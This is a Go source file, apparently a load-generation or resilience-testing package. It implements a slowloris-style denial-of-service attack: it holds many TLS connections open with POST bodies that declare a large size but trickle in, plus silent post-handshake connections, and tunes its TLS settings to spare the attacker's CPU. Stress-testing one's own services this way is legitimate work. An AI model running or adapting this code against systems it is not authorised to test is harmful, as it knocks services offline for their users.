package loadgen

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"sync"

	"golang.org/x/sync/errgroup"
)

// dialers is how many connections an Attack opens at once.
const dialers = 16

// Attack holds hostile connections open against a service: bodies that
// declare a large size and trickle in, and TLS connections that stay
// silent after their handshake. The connections need no goroutine of
// their own, so the attacker's side stays small in memory.
type Attack struct {
	addr string
	tc   *tls.Config

	mu   sync.Mutex
	slow []net.Conn
	idle []net.Conn
}

// NewAttack prepares an attack on the TLS service at addr (host:port),
// with tc for every connection (its client certificate, if any, makes the
// slow bodies authenticated). As an attacker would, it spares its own CPU:
// X25519 alone for the key exchange, and a session cache so that, once
// Prime has fetched a ticket, the handshakes resume.
func NewAttack(addr string, tc *tls.Config) *Attack {
	tc = tc.Clone()
	tc.ClientSessionCache = tls.NewLRUClientSessionCache(1)
	tc.CurvePreferences = []tls.CurveID{tls.X25519}
	return &Attack{addr: addr, tc: tc}
}

// Prime GETs rawURL once on a connection that reads its answer, and with
// it the session ticket later handshakes resume with.
func (a *Attack) Prime(ctx context.Context, rawURL string) error {
	tr := &http.Transport{TLSClientConfig: a.tc}
	defer tr.CloseIdleConnections()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, rawURL, nil)
	if err != nil {
		return err
	}
	resp, err := tr.RoundTrip(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	_, err = io.Copy(io.Discard, resp.Body)
	return err
}

// SlowBodies opens n connections, each sending a POST to rawURL's path
// that declares declared bytes of body and sends first. It returns once
// every connection has sent that much.
func (a *Attack) SlowBodies(ctx context.Context, n int, rawURL string, declared int, first []byte) error {
	u, err := url.Parse(rawURL)
	if err != nil {
		return err
	}
	head := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n",
		u.EscapedPath(), u.Host, declared)
	msg := append([]byte(head), first...)
	return a.open(ctx, n, &a.slow, func(c net.Conn) error {
		_, err := c.Write(msg)
		return err
	})
}

// Trickle sends piece on every slow body: one more step of bodies that
// never finish.
func (a *Attack) Trickle(piece []byte) error {
	a.mu.Lock()
	conns := a.slow
	a.mu.Unlock()
	var errs []error
	for _, c := range conns {
		if _, err := c.Write(piece); err != nil {
			errs = append(errs, err)
		}
	}
	return errors.Join(errs...)
}

// Idle opens n TLS connections that complete their handshake and then
// send nothing.
func (a *Attack) Idle(ctx context.Context, n int) error {
	return a.open(ctx, n, &a.idle, func(net.Conn) error { return nil })
}

// Open is the number of connections held (slow bodies, idle).
func (a *Attack) Open() (slow, idle int) {
	a.mu.Lock()
	defer a.mu.Unlock()
	return len(a.slow), len(a.idle)
}

// Close closes every connection.
func (a *Attack) Close() {
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, c := range append(a.slow, a.idle...) {
		_ = c.Close()
	}
	a.slow, a.idle = nil, nil
}

// open dials n TLS connections, dialers at a time, runs then on each and
// keeps it in *into.
func (a *Attack) open(ctx context.Context, n int, into *[]net.Conn, then func(net.Conn) error) error {
	g, ctx := errgroup.WithContext(ctx)
	g.SetLimit(dialers)
	for range n {
		g.Go(func() error {
			d := tls.Dialer{Config: a.tc}
			c, err := d.DialContext(ctx, "tcp", a.addr)
			if err != nil {
				return err
			}
			a.mu.Lock()
			*into = append(*into, c)
			a.mu.Unlock()
			return then(c)
		})
	}
	return g.Wait()
}
